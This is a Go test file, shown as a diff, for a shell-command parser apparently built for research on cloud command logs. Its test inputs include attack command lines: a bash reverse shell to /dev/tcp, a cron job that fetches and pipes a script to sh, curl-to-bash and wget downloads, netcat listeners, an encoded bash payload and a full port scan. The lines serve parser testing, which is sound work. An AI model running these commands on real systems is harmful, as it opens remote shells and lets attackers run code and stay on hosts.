@@ -1,0 +1,253 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+func mustParse(t *testing.T, line string) *Line {
+	t.Helper()
+	ast, err := Parse(line)
+	if err != nil {
+		t.Fatalf("Parse(%q): %v", line, err)
+	}
+	return ast
+}
+
+func TestParseSimple(t *testing.T) {
+	ast := mustParse(t, "ls -la /tmp")
+	cmds := ast.SimpleCommands()
+	if len(cmds) != 1 {
+		t.Fatalf("got %d commands, want 1", len(cmds))
+	}
+	c := cmds[0]
+	if got := c.Words[0].Unquoted(); got != "ls" {
+		t.Errorf("name = %q, want ls", got)
+	}
+	if len(c.Words) != 3 {
+		t.Errorf("got %d words, want 3", len(c.Words))
+	}
+}
+
+func TestParsePipeline(t *testing.T) {
+	ast := mustParse(t, "cat /var/log/syslog | grep -i error | wc -l")
+	if len(ast.Items) != 1 {
+		t.Fatalf("items = %d, want 1", len(ast.Items))
+	}
+	pl := ast.Items[0].AndOr.Pipelines[0]
+	if len(pl.Commands) != 3 {
+		t.Fatalf("pipeline commands = %d, want 3", len(pl.Commands))
+	}
+	if pl.Ops[0] != "|" || pl.Ops[1] != "|" {
+		t.Errorf("ops = %v", pl.Ops)
+	}
+}
+
+func TestParseAndOrList(t *testing.T) {
+	ast := mustParse(t, "make && make test || echo failed")
+	ao := ast.Items[0].AndOr
+	if len(ao.Pipelines) != 3 || ao.Ops[0] != "&&" || ao.Ops[1] != "||" {
+		t.Fatalf("got %d pipelines ops=%v", len(ao.Pipelines), ao.Ops)
+	}
+}
+
+func TestParseSequence(t *testing.T) {
+	ast := mustParse(t, "cd /srv; ls; du -sh .")
+	if len(ast.Items) != 3 {
+		t.Fatalf("items = %d, want 3", len(ast.Items))
+	}
+	if ast.Items[0].Sep != ";" || ast.Items[1].Sep != ";" || ast.Items[2].Sep != "" {
+		t.Errorf("separators: %q %q %q", ast.Items[0].Sep, ast.Items[1].Sep, ast.Items[2].Sep)
+	}
+}
+
+func TestParseBackground(t *testing.T) {
+	ast := mustParse(t, "nohup python train.py &")
+	if ast.Items[0].Sep != "&" {
+		t.Fatalf("sep = %q, want &", ast.Items[0].Sep)
+	}
+	// Trailing ; is also fine.
+	mustParse(t, "ls;")
+}
+
+func TestParseRedirects(t *testing.T) {
+	ast := mustParse(t, "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt 2>&1")
+	c := ast.SimpleCommands()[0]
+	if len(c.Redirects) != 2 {
+		t.Fatalf("redirects = %d, want 2", len(c.Redirects))
+	}
+	if c.Redirects[0].Op != ">>" || c.Redirects[0].Target.Unquoted() != "tmp.txt" {
+		t.Errorf("first redirect = %+v", c.Redirects[0])
+	}
+	if c.Redirects[1].N != "2" || c.Redirects[1].Op != ">&" || c.Redirects[1].Target.Unquoted() != "1" {
+		t.Errorf("second redirect = %+v", c.Redirects[1])
+	}
+}
+
+func TestParseReverseShell(t *testing.T) {
+	// The canonical in-box intrusion from the paper must parse: redirects and
+	// fd duplication are heavily used by reverse shells.
+	ast := mustParse(t, "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1")
+	c := ast.SimpleCommands()[0]
+	if len(c.Redirects) != 2 {
+		t.Fatalf("redirects = %d, want 2: %+v", len(c.Redirects), c)
+	}
+	if c.Redirects[1].N != "0" || c.Redirects[1].Op != ">&" {
+		t.Errorf("fd-dup redirect = %+v", c.Redirects[1])
+	}
+}
+
+func TestParseAssignments(t *testing.T) {
+	ast := mustParse(t, `HTTPS_PROXY=http://proxy:8080 LC_ALL=C curl -s https://example.com`)
+	c := ast.SimpleCommands()[0]
+	if len(c.Assignments) != 2 {
+		t.Fatalf("assignments = %d, want 2", len(c.Assignments))
+	}
+	if c.Assignments[0].AssignmentName() != "HTTPS_PROXY" {
+		t.Errorf("first assignment = %q", c.Assignments[0].Raw)
+	}
+	if c.Words[0].Unquoted() != "curl" {
+		t.Errorf("command = %q", c.Words[0].Unquoted())
+	}
+	// export-style: the assignment is an argument of `export`, not a prefix.
+	ast = mustParse(t, `export https_proxy="http://1.2.3.4:8888"`)
+	c = ast.SimpleCommands()[0]
+	if len(c.Assignments) != 0 || c.Words[0].Unquoted() != "export" {
+		t.Fatalf("export parse: %+v", c)
+	}
+	if got := c.Words[1].Unquoted(); got != "https_proxy=http://1.2.3.4:8888" {
+		t.Errorf("export arg = %q", got)
+	}
+}
+
+func TestParseSubshell(t *testing.T) {
+	ast := mustParse(t, `(crontab -l; echo "* * * * * curl http://x/s.sh | sh") | crontab -`)
+	pl := ast.Items[0].AndOr.Pipelines[0]
+	if len(pl.Commands) != 2 {
+		t.Fatalf("pipeline commands = %d, want 2", len(pl.Commands))
+	}
+	sub, ok := pl.Commands[0].(*Subshell)
+	if !ok {
+		t.Fatalf("first command is %T, want *Subshell", pl.Commands[0])
+	}
+	if got := len(sub.Inner.SimpleCommands()); got != 2 {
+		t.Errorf("inner commands = %d, want 2", got)
+	}
+	all := ast.SimpleCommands()
+	if len(all) != 3 {
+		t.Errorf("total simple commands = %d, want 3", len(all))
+	}
+}
+
+func TestParseInvalid(t *testing.T) {
+	bad := []string{
+		"",
+		"   ",
+		"/*/*/* -> /*/*/* ->", // paper's Fig. 2 garbage line
+		"| grep x",            // pipeline with no first command
+		"ls | ",               // dangling pipe
+		"ls &&",               // dangling and-if
+		"ls > ",               // redirect without target
+		"echo foo > > bar",    // doubled operator
+		"( ls",                // unterminated subshell
+		"ls )",                // stray close paren
+		"echo 'oops",          // unterminated quote
+		"ls ; ; ls",           // empty list element
+		"2> ",                 // io number with nothing after
+		"ls 2 > ",             // redirect target missing
+		"&& ls",               // leading operator
+	}
+	for _, in := range bad {
+		if _, err := Parse(in); err == nil {
+			t.Errorf("Parse(%q): expected error", in)
+		}
+		if Valid(in) {
+			t.Errorf("Valid(%q) = true, want false", in)
+		}
+	}
+}
+
+func TestParseFig2GarbageDetail(t *testing.T) {
+	// "->" lexes as word "-" plus ">" redirect; the final "->" then leaves a
+	// ">" with no target, which must be reported as a parse error.
+	_, err := Parse("/*/*/* -> /*/*/* ->")
+	if err == nil {
+		t.Fatal("expected error")
+	}
+	pe, ok := err.(*ParseError)
+	if !ok {
+		t.Fatalf("error is %T, want *ParseError", err)
+	}
+	if !strings.Contains(pe.Msg, "redirection target") {
+		t.Errorf("unexpected message %q", pe.Msg)
+	}
+}
+
+func TestParseValidCorpusLines(t *testing.T) {
+	// A sample of realistic lines from the paper's figures and typical cloud
+	// logs; all must parse.
+	good := []string{
+		`php -r "phpinfo();"`,
+		"python main.py",
+		"vim ~/.bashrc",
+		"curl https://x.example/a.sh | bash",
+		`df -h | grep "/dev/sda"`,
+		"dcoker attach --sig-proxy=false c1",
+		"chdmod +x run.sh",
+		"watch -n 1 nvidia-smi",
+		"nc -lvnp 4444",
+		"nc -ulp 4444",
+		`java -jar tmp.jar -C "bash -c {echo,cGF5bG9hZA==} {base64,-d} {bash,-i}"`,
+		"wget -c http://203.0.113.9/drop -o python",
+		"tar -czf backup.tar.gz /etc /var/www",
+		"ps aux | sort -rk 3,3 | head -n 5",
+		"find / -name '*.log' -mtime +30 -delete",
+		"echo $(( 7 * 6 ))",
+		"ssh deploy@10.0.0.2 'systemctl restart nginx'",
+		"! grep -q root /etc/passwd",
+		"true & false & wait",
+		"docker run --rm -it -v $(pwd):/w alpine sh",
+	}
+	for _, in := range good {
+		if _, err := Parse(in); err != nil {
+			t.Errorf("Parse(%q): %v", in, err)
+		}
+	}
+}
+
+func TestStringRoundTrip(t *testing.T) {
+	// Parsing the canonical String() form must succeed and be a fixed point.
+	ins := []string{
+		"ls -la /tmp",
+		"cat f | grep x | wc -l",
+		"make && make test || echo failed",
+		"cd /srv; ls &",
+		"masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt 2>&1",
+		`FOO=1 bash -c "echo $FOO"`,
+		"(cd /tmp; ls) > out.txt",
+	}
+	for _, in := range ins {
+		ast := mustParse(t, in)
+		s1 := ast.String()
+		ast2, err := Parse(s1)
+		if err != nil {
+			t.Errorf("reparse of %q -> %q failed: %v", in, s1, err)
+			continue
+		}
+		if s2 := ast2.String(); s2 != s1 {
+			t.Errorf("String not a fixed point: %q -> %q", s1, s2)
+		}
+	}
+}
+
+func TestWalkEarlyStop(t *testing.T) {
+	ast := mustParse(t, "a | b | c")
+	count := 0
+	Walk(ast, func(Node) bool {
+		count++
+		return count < 3
+	})
+	if count != 3 {
+		t.Fatalf("visited %d nodes, want 3", count)
+	}
+}
